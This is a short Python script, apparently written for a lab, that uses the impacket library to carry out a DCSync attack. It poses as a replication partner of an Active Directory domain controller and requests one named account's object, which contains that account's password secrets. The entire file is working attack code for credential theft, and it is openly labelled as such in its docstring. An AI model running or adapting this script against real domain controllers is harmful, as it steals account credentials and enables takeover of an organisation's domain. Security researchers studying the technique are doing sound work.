#!/usr/bin/python3
"""Asks a domain controller for one account's secrets, as a replication partner would (DCSync).

replicate.py HOST DOMAIN USER PASSWORD ACCOUNT      needs python3-impacket
"""
import sys

from impacket.dcerpc.v5 import drsuapi, epm, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
from impacket.uuid import string_to_bin


def connect(host, domain, user, password):
    binding = epm.hept_map(host, drsuapi.MSRPC_UUID_DRSUAPI, protocol="ncacn_ip_tcp")
    print(binding)
    dialer = transport.DCERPCTransportFactory(binding)
    dialer.setRemoteHost(host)
    dialer.set_credentials(user, password, domain)
    rpc = dialer.get_dce_rpc()
    rpc.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    rpc.connect()
    rpc.bind(drsuapi.MSRPC_UUID_DRSUAPI)
    return rpc


def open_replication(rpc):
    extensions = drsuapi.DRS_EXTENSIONS_INT()
    extensions["cb"] = len(extensions)
    extensions["dwFlags"] = drsuapi.DRS_EXT_GETCHGREQ_V6 | drsuapi.DRS_EXT_GETCHGREPLY_V6 | \
        drsuapi.DRS_EXT_GETCHGREQ_V8 | drsuapi.DRS_EXT_STRONG_ENCRYPTION
    extensions["SiteObjGuid"] = drsuapi.NULLGUID
    extensions["Pid"] = 0
    extensions["dwReplEpoch"] = 0
    extensions["dwFlagsExt"] = 0
    extensions["ConfigObjGUID"] = drsuapi.NULLGUID
    extensions["dwExtCaps"] = 0xFFFFFFFF
    request = drsuapi.DRSBind()
    request["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    request["pextClient"]["cb"] = len(extensions)
    request["pextClient"]["rgb"] = list(extensions.getData())
    return rpc.request(request)["phDrs"]


def replicate_one(rpc, handle, name):
    crack = drsuapi.hDRSCrackNames(rpc, handle, 0, drsuapi.DS_NAME_FORMAT.DS_NT4_ACCOUNT_NAME,
                                   drsuapi.DS_NAME_FORMAT.DS_UNIQUE_ID_NAME, (name,))
    guid = crack["pmsgOut"]["V1"]["pResult"]["rItems"][0]["pName"][:-1]
    controller = drsuapi.hDRSDomainControllerInfo(rpc, handle, "LAB.EXAMPLE", 2)
    source = controller["pmsgOut"]["V2"]["rItems"][0]["NtdsDsaObjectGuid"]
    target = drsuapi.DSNAME()
    target["SidLen"] = 0
    target["Sid"] = ""
    target["Guid"] = string_to_bin(guid[1:-1])
    target["NameLen"] = 0
    target["StringName"] = "\x00"
    target["structLen"] = len(target.getData())
    request = drsuapi.DRSGetNCChanges()
    request["hDrs"] = handle
    request["dwInVersion"] = 8
    message = request["pmsgIn"]
    message["tag"] = 8
    message["V8"]["uuidDsaObjDest"] = source
    message["V8"]["uuidInvocIdSrc"] = source
    message["V8"]["pNC"] = target
    message["V8"]["usnvecFrom"]["usnHighObjUpdate"] = 0
    message["V8"]["usnvecFrom"]["usnHighPropUpdate"] = 0
    message["V8"]["pUpToDateVecDest"] = NULL
    message["V8"]["ulFlags"] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
    message["V8"]["cMaxObjects"] = 1
    message["V8"]["cMaxBytes"] = 0
    message["V8"]["ulExtendedOp"] = drsuapi.EXOP_REPL_OBJ
    message["V8"]["pPartialAttrSet"] = NULL
    message["V8"]["PrefixTableDest"]["pPrefixEntry"] = NULL
    message["V8"]["pPartialAttrSetEx1"] = NULL
    return rpc.request(request)


def main():
    host, domain, user, password, account = sys.argv[1:]
    rpc = connect(host, domain, user, password)
    handle = open_replication(rpc)
    try:
        answer = replicate_one(rpc, handle, f"{domain}\\{account}")
        print("objects:", answer["pmsgOut"]["V6"]["cNumObjects"])
    finally:
        drsuapi.hDRSUnbind(rpc, handle) if hasattr(drsuapi, "hDRSUnbind") else None
        rpc.disconnect()


main()
